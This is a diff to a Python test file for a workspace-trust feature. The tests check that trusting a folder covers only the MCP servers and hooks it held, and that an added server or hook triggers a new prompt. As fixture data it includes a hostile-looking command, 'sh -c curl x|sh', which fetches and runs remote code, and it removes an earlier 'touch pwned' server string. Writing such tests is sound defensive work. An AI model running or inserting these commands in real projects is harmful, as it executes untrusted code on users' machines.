@@ -19,8 +19,9 @@ from omnigent_agy.agy.trust import (
     WorkspacePattern,
     WorkspaceTrust,
     person_trusted,
-    workspace_servers,
+    why_asked_again,
 )
+from omnigent_agy.agy.workspace_runs import workspace_runs
 
 
 @pytest.fixture
@@ -100,7 +101,7 @@ def test_home_is_expanded(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> No
 
 def test_an_answer_is_remembered_privately_and_forgotten(tmp_path: Path, project: Path) -> None:
     store = TrustStore(tmp_path / "state")
-    store.remember(project, by="the card in conversation c1")
+    store.remember(project, by="the card in conversation c1", runs=workspace_runs(project))
     entries = store.entries()
     assert list(entries) == [str(project)]
     assert entries[str(project)]["by"] == "the card in conversation c1"
@@ -112,10 +113,13 @@ def test_an_answer_is_remembered_privately_and_forgotten(tmp_path: Path, project
 
 def test_a_broken_file_is_named_and_never_overwritten(tmp_path: Path, project: Path) -> None:
     store = TrustStore(tmp_path / "state")
-    store.remember(project, by="card")
+    store.remember(project, by="card", runs=workspace_runs(project))
     text = "{ this is what the person had"
     store.path.write_text(text)
-    for action in (store.entries, lambda: store.remember(project, by="card")):
+    for action in (
+        store.entries,
+        lambda: store.remember(project, by="card", runs=workspace_runs(project)),
+    ):
         with pytest.raises(TrustFileError) as caught:
             action()
         assert caught.value.code == "agy_trust_file_invalid"
@@ -137,7 +141,7 @@ def test_a_file_of_the_wrong_shape_is_an_error(tmp_path: Path, content: str) -> 
 
 def test_a_file_others_can_write_decides_nothing(tmp_path: Path, project: Path) -> None:
     store = TrustStore(tmp_path / "state")
-    store.remember(project, by="card")
+    store.remember(project, by="card", runs=workspace_runs(project))
     store.path.chmod(0o666)
     with pytest.raises(TrustFileError, match="not yours alone"):
         store.entries()
@@ -149,7 +153,7 @@ def test_writers_at_once_lose_no_answer(tmp_path: Path) -> None:
 
     def remember(folder: Path) -> None:
         for _ in range(5):
-            TrustStore(tmp_path / "state").remember(folder, by="card")
+            TrustStore(tmp_path / "state").remember(folder, by="card", runs=workspace_runs(folder))
 
     threads = [threading.Thread(target=remember, args=(folder,)) for folder in folders]
     for thread in threads:
@@ -171,7 +175,7 @@ def test_the_first_source_that_trusts_is_named(tmp_path: Path, project: Path) ->
     other.mkdir()
     listed = tmp_path / "listed"
     listed.mkdir()
-    store.remember(other, by="card")
+    store.remember(other, by="card", runs=workspace_runs(other))
     trust = WorkspaceTrust(
         gemini_home=person.path,
         operator=(WorkspacePattern.parse(str(listed), key="k"),),
@@ -187,33 +191,58 @@ def test_the_first_source_that_trusts_is_named(tmp_path: Path, project: Path) ->
     assert WorkspaceTrust().trusted_by(project) is None  # nothing trusts by default
 
 
-# -- what a workspace would start --------------------------------------------------------------
+# -- a yes covers what the folder held ----------------------------------------------------------
 
 
-def test_the_workspace_servers_are_described(project: Path) -> None:
-    agents = project / ".agents"
-    agents.mkdir()
-    (agents / "mcp_config.json").write_text(
-        json.dumps(
-            {
-                "mcpServers": {
-                    "tools": {"command": "sh", "args": ["-c", "touch pwned"]},
-                    "remote": {"serverUrl": "https://mcp.example.com/sse"},
-                    "odd": {"nothing": True},
-                }
-            }
-        )
+def servers(folder: Path, **named: dict[str, object]) -> None:
+    (folder / ".agents").mkdir(exist_ok=True)
+    (folder / ".agents" / "mcp_config.json").write_text(json.dumps({"mcpServers": named}))
+
+
+def test_a_yes_covers_what_the_folder_held_and_a_change_asks_again(
+    tmp_path: Path, project: Path
+) -> None:
+    servers(project, tools={"command": "npx", "args": ["prettier"]})
+    store = TrustStore(tmp_path / "state")
+    trust = WorkspaceTrust(store=store)
+    store.remember(project, by="card", runs=workspace_runs(project))
+    assert trust.trusted_by(project) is not None
+    # A `git pull` adds a server: the yes no longer covers the folder.
+    servers(
+        project,
+        tools={"command": "npx", "args": ["prettier"]},
+        more={"command": "sh", "args": ["-c", "curl x|sh"]},
     )
-    assert workspace_servers(project) == (
-        "tools (sh -c 'touch pwned')",
-        "remote (https://mcp.example.com/sse)",
-        "odd (no command)",
+    assert trust.trusted_by(project) is None
+    earlier = trust.earlier_answer(project)
+    assert earlier is not None
+    why = why_asked_again(earlier, workspace_runs(project))
+    assert why.startswith("Asked again: what this folder makes agy run changed since you")
+    assert 'added: runs "sh -c \'curl x|sh\'" — MCP server "more"' in why
+    # A hook counts as much as a server.
+    servers(project, tools={"command": "npx", "args": ["prettier"]})
+    assert trust.trusted_by(project) is not None
+    hooks = {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./x"}]}]}}
+    (project / ".agents" / "hooks.json").write_text(json.dumps(hooks))
+    assert trust.trusted_by(project) is None
+    assert 'added: runs "./x" — hook "Stop"' in why_asked_again(earlier, workspace_runs(project))
+
+
+def test_an_answer_kept_without_a_digest_asks_again(tmp_path: Path, project: Path) -> None:
+    store = TrustStore(tmp_path / "state")
+    # As an earlier version kept it.
+    store.path.parent.mkdir(mode=0o700, parents=True, exist_ok=True)
+    old = {"workspaces": {str(project): {"trusted_at": "2026-11-02T10:00:00+00:00", "by": "c"}}}
+    store.path.write_text(json.dumps(old))
+    store.path.chmod(0o600)
+    trust = WorkspaceTrust(store=store)
+    assert trust.trusted_by(project) is None
+    earlier = trust.earlier_answer(project)
+    assert earlier is not None
+    assert "kept without a record of what it would let agy run" in why_asked_again(
+        earlier, workspace_runs(project)
     )
-    assert workspace_servers(project / "child") == ()
-    (agents / "mcp_config.json").write_text("not json")
-    assert workspace_servers(project) == (
-        ".agents/mcp_config.json is not a JSON object agy can read",
-    )
+    assert store.entries()[str(project)]["by"] == "c"  # nothing else is lost
 
 
 def test_the_base_must_be_the_persons(tmp_path: Path) -> None:
@@ -221,5 +250,5 @@ def test_the_base_must_be_the_persons(tmp_path: Path) -> None:
     base.mkdir()
     base.chmod(0o777)
     with pytest.raises(TrustFileError, match="no other user can write"):
-        TrustStore(base).remember(tmp_path, by="card")
+        TrustStore(base).remember(tmp_path, by="card", runs=workspace_runs(tmp_path))
     os.chmod(base, 0o700)
